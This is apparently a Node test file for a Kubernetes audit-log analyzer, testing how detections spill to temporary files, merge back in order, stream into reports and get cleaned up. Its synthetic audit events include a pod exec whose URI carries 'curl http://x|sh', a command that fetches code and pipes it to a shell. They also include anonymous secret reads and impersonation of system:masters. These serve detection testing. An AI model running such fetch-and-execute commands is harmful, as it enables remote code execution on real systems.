// Detections spilled to a temporary file and merged back (src/audit/spill.ts): the order is exactly
// sortDetections' (equal keys included), the streamed reports are the same bytes as the in-memory
// ones, and the temporary files go away whatever happens (end, early stop, exception, SIGINT).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcessWithoutNullStreams } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { AuditAnalyzer } from '../../src/audit/analyze.js';
import { sortDetections, type AuditDetection } from '../../src/audit/engine.js';
import { DetectionSpill } from '../../src/audit/spill.js';
import { jsonReportChunks, text as renderText, textChunks } from '../../src/audit/report.js';
import { jsonChunks, StreamedArray } from '../../src/reporters/json-stream.js';
import { SEVERITIES } from '../../src/core/types.js';
import { BIN } from '../helpers/cli.js';

function rng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const T0 = Date.parse('2025-03-01T10:00:00Z');

/** Detections with few distinct keys (many equal ones), times out of order, unicode and newlines. */
function randomDetections(n: number, seed: number): AuditDetection[] {
  const rnd = rng(seed);
  const out: AuditDetection[] = [];
  for (let i = 0; i < n; i++) {
    out.push({
      id: `det-${i}`,
      title: 'Tést\ndetection',
      severity: SEVERITIES[Math.floor(rnd() * SEVERITIES.length)],
      mitre: ['T1609'],
      provider: 'kubernetes',
      auditID: `a-${i}`,
      time: rnd() < 0.05 ? '' : new Date(T0 + Math.floor(rnd() * 40) * 1000).toISOString(),
      user: `user-${i % 9}@example.com ✓`,
      ...(i % 5 === 0 ? { impersonatedUser: undefined } : {}),
      verb: 'create',
      resource: 'pods/exec',
      namespace: 'shop',
      name: `web-${i}`,
      message: `exec "sh" into web-${i}\n`,
      evidence: { n: i, nested: { list: [1, 'two', null] } },
      file: `f${Math.floor(rnd() * 3)}.log`,
      line: Math.floor(rnd() * 5),
    });
  }
  return out;
}

const lines = (ds: Iterable<AuditDetection>): string[] => [...ds].map((d) => JSON.stringify(d));

/** A spill directory under a fresh parent, so a test can see what is left there. */
function parentDir(): string {
  return mkdtempSync(path.join(os.tmpdir(), 'kubeward-spill-test-'));
}

describe('audit analyze: spilled detections', () => {
  test('spill + merge gives sortDetections order exactly (equal keys keep their order), at any run size and fan-in', () => {
    for (const [n, runSize, fanIn, seed] of [
      [3000, 97, 4, 1],
      [3000, 500, 64, 2],
      [1000, 1, 2, 3],
      [257, 16, 3, 4],
      [0, 10, 2, 5],
      [10, 10, 2, 6],
    ] as const) {
      const ds = randomDetections(n, seed);
      const expected = lines(sortDetections(ds.slice()));
      const parent = parentDir();
      const s = new DetectionSpill({ runSize, fanIn, tmpdir: parent, blockSize: 777 });
      for (const d of ds) s.push(d);
      if (n > runSize) assert.ok(s.runsOnDisk > 0, 'runs written');
      assert.deepEqual(lines(s.sorted()), expected, `n=${n} runSize=${runSize} fanIn=${fanIn}`);
      assert.deepEqual(readdirSync(parent), [], 'temporary files removed');
      // all(): the same order, in memory.
      const t = new DetectionSpill({ runSize, fanIn, tmpdir: parent });
      for (const d of ds) t.push(d);
      assert.deepEqual(lines(t.all()), expected);
      assert.deepEqual(readdirSync(parent), []);
      // ... and pushing more afterwards still sorts everything.
      const more = randomDetections(50, seed + 100);
      for (const d of more) t.push(d);
      assert.deepEqual(lines(t.sorted()), lines(sortDetections([...ds, ...more])));
      rmSync(parent, { recursive: true, force: true });
    }
  });

  test('temporary files: 0600 in a 0700 directory, removed after the iteration, an early stop, an exception or close()', () => {
    const parent = parentDir();
    const fill = (): DetectionSpill => {
      const s = new DetectionSpill({ runSize: 50, tmpdir: parent });
      for (const d of randomDetections(400, 7)) s.push(d);
      return s;
    };
    const s = fill();
    const dir = s.directory!;
    assert.ok(dir && path.basename(dir).startsWith('kubeward-audit-spill-'));
    assert.equal(statSync(dir).mode & 0o777, 0o700);
    for (const f of readdirSync(dir)) assert.equal(statSync(path.join(dir, f)).mode & 0o777, 0o600);
    for (const _ of s.sorted()) break; // early stop
    assert.equal(existsSync(dir), false);

    const e = fill();
    assert.throws(() => {
      for (const d of e.sorted()) if (d.severity === 'info') throw new Error('renderer failed');
    }, /renderer failed/);
    assert.deepEqual(readdirSync(parent), []);

    const c = fill();
    c.sorted(); // never iterated
    c.close();
    assert.deepEqual(readdirSync(parent), []);

    // Analyzer: result() reads the spill back and removes it; stream() + close() too.
    const a = new AuditAnalyzer({ only: ['pod-exec'], spill: { runSize: 10, tmpdir: parent } });
    for (let i = 0; i < 35; i++) a.record(exec(i));
    assert.ok(a.spillDirectory);
    assert.equal(a.result().detections.length, 35);
    assert.equal(a.spillDirectory, undefined);
    for (let i = 35; i < 70; i++) a.record(exec(i));
    const r = a.stream();
    a.close();
    assert.equal(r.stats.detections, 70);
    assert.deepEqual(readdirSync(parent), []);
    rmSync(parent, { recursive: true, force: true });
  });

  test('streamed JSON and text reports are byte-identical to the in-memory ones (thousands of detections, shuffled times)', () => {
    const events = generatedEvents(2500, 11);
    const parent = parentDir();
    const mem = new AuditAnalyzer({ spill: false });
    const disk = new AuditAnalyzer({ spill: { runSize: 300, fanIn: 5, tmpdir: parent } });
    for (const [ev, file, line] of events) {
      mem.record(ev, file, line);
      disk.record(ev, file, line);
    }
    assert.ok(disk.spillDirectory, 'the detections went to disk');
    const r = mem.result();
    assert.ok(r.detections.length > 2000, `${r.detections.length} detections`);
    assert.ok(new Set(r.detections.map((d) => d.severity)).size >= 3);
    const extra = { policyViolations: [{ id: 'policy/x', n: 1 }], policyChecks: { checked: 1, notKept: undefined }, summary: { nested: { deep: [[1], { a: 'b' }] } } };
    const expected = JSON.stringify({ ...r, ...extra }, null, 2) + '\n';
    const streamed = [...jsonReportChunks(disk.stream(), extra)];
    assert.equal(streamed.join(''), expected);
    assert.equal(disk.spillDirectory, undefined);
    assert.deepEqual(readdirSync(parent), []);
    // Without extras, and the text report.
    const disk2 = new AuditAnalyzer({ spill: { runSize: 300, tmpdir: parent } });
    for (const [ev, file, line] of events) disk2.record(ev, file, line);
    assert.equal([...jsonReportChunks(disk2.stream())].join(''), JSON.stringify(r, null, 2) + '\n');
    const disk3 = new AuditAnalyzer({ spill: { runSize: 300, tmpdir: parent } });
    for (const [ev, file, line] of events) disk3.record(ev, file, line);
    const ctx = { color: true, failOn: 'high' as const };
    assert.equal([...textChunks(disk3.stream(), ctx)].join(''), renderText(r, ctx));
    assert.deepEqual(readdirSync(parent), []);
    rmSync(parent, { recursive: true, force: true });
  });

  test('jsonChunks with StreamedArray members matches JSON.stringify on edge cases', () => {
    const cases: Array<[Record<string, unknown>, string[]]> = [
      [{}, []],
      [{ detections: [] }, ['detections']],
      [{ a: undefined, detections: [], b: null, c: [], d: {} }, ['detections']],
      [{ detections: [{ x: '\n"' }, 2, 'three'], s: 'x'.repeat(3 << 20) }, ['detections']],
    ];
    for (const [obj, streamed] of cases) {
      const lazy = Object.fromEntries(Object.entries(obj).map(([k, v]) => [k, streamed.includes(k) ? new StreamedArray((v as unknown[]).values()) : v]));
      assert.equal([...jsonChunks(lazy, 2, 4, 1 << 15)].join(''), JSON.stringify(obj, null, 2) + '\n');
    }
  });

  test('a detection count above the in-memory buffer (default settings): all listed, nothing left on disk', () => {
    const parent = parentDir();
    const a = new AuditAnalyzer({ only: ['pod-exec'], spill: { tmpdir: parent } });
    const n = 5000;
    for (let i = 0; i < n; i++) a.record(exec(i));
    assert.ok(a.spillDirectory, 'past 4,096 detections the buffer went to disk');
    const r = a.stream();
    assert.equal(r.stats.detections, n);
    assert.equal(r.stats.capped, undefined);
    let count = 0;
    let last = '';
    for (const d of r.detections) {
      count++;
      assert.ok(d.time >= last);
      last = d.time;
    }
    assert.equal(count, n);
    assert.deepEqual(readdirSync(parent), []);
    rmSync(parent, { recursive: true, force: true });
  });

  test('the CLI leaves no temporary files, and removes them on SIGINT', async () => {
    const tmp = parentDir();
    const input = Array.from({ length: 4500 }, (_, i) => JSON.stringify(exec(i))).join('\n') + '\n';
    const start = (keepOpen: boolean): { child: ChildProcessWithoutNullStreams; done: Promise<{ code: number | null; signal: string | null; out: string }> } => {
      const child = spawn(process.execPath, [BIN, 'audit', 'analyze', '-', '--only', 'pod-exec', '--format', 'json', '--fail-on', 'none'], {
        env: { ...process.env, TMPDIR: tmp, NO_COLOR: '1' },
        stdio: ['pipe', 'pipe', 'pipe'],
      });
      let out = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
      child.stdin.write(input);
      if (!keepOpen) child.stdin.end();
      return { child, done: new Promise((resolve) => child.on('close', (code, signal) => resolve({ code, signal, out }))) };
    };
    const done = await start(false).done;
    assert.equal(done.code, 0);
    assert.equal(JSON.parse(done.out).detections.length, 4500);
    assert.deepEqual(readdirSync(tmp), []);

    // stdin stays open: the run is still reading when the detections have gone to disk.
    const { child, done: killed } = start(true);
    const t0 = Date.now();
    while (readdirSync(tmp).length === 0 && Date.now() - t0 < 20_000) await new Promise((r) => setTimeout(r, 50));
    assert.ok(readdirSync(tmp).some((f) => f.startsWith('kubeward-audit-spill-')), 'spilled while reading stdin');
    child.kill('SIGINT');
    const k = await killed;
    assert.equal(k.signal, 'SIGINT');
    assert.deepEqual(readdirSync(tmp), []);
    rmSync(tmp, { recursive: true, force: true });
  });
});

function exec(i: number): Record<string, unknown> {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    auditID: `s-${i}`,
    stage: 'ResponseComplete',
    verb: 'create',
    user: { username: `user-${i % 50}@example.com`, groups: ['system:authenticated'] },
    sourceIPs: ['203.0.113.9'],
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: `web-${i}`, apiVersion: 'v1' },
    requestURI: `/api/v1/namespaces/shop/pods/web-${i}/exec?command=sh`,
    responseStatus: { code: 101 },
    stageTimestamp: new Date(T0 + i * 1000).toISOString(),
  };
}

/** Exec, port-forward, anonymous reads and impersonation, at shuffled times with many equal keys. */
function generatedEvents(n: number, seed: number): Array<[Record<string, unknown>, string, number]> {
  const rnd = rng(seed);
  const out: Array<[Record<string, unknown>, string, number]> = [];
  for (let i = 0; i < n; i++) {
    const base = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'Metadata',
      auditID: `g-${i}`,
      stage: 'ResponseComplete',
      user: { username: `user-${i % 37}@example.com`, groups: ['system:authenticated'] },
      sourceIPs: ['203.0.113.9'],
      stageTimestamp: new Date(T0 + Math.floor(rnd() * 60) * 1000).toISOString(),
    };
    const kind = Math.floor(rnd() * 4);
    let ev: Record<string, unknown>;
    if (kind === 0) ev = { ...base, verb: 'create', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: `web-${i}`, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/shop/pods/web-${i}/exec?command=sh&command=-c&command=curl%20http://x|sh`, responseStatus: { code: 101 } };
    else if (kind === 1) ev = { ...base, verb: 'create', objectRef: { resource: 'pods', subresource: 'portforward', namespace: 'shop', name: `web-${i}`, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/shop/pods/web-${i}/portforward`, responseStatus: { code: 101 } };
    else if (kind === 2) ev = { ...base, user: { username: `system:anonymous`, groups: ['system:unauthenticated'] }, sourceIPs: [`198.51.100.${i % 250}`], verb: 'get', objectRef: { resource: 'secrets', namespace: 'shop', name: `s-${i}`, apiVersion: 'v1' }, requestURI: `/api/v1/namespaces/shop/secrets/s-${i}`, responseStatus: { code: 200 } };
    else ev = { ...base, verb: 'create', impersonatedUser: { username: `admin-${i}`, groups: ['system:masters'] }, objectRef: { resource: 'configmaps', namespace: 'shop', name: `c-${i}`, apiVersion: 'v1' }, requestURI: '/api/v1/namespaces/shop/configmaps', responseStatus: { code: 201 } };
    out.push([ev, `f${Math.floor(rnd() * 2)}.log`, Math.floor(rnd() * 8)]);
  }
  return out;
}
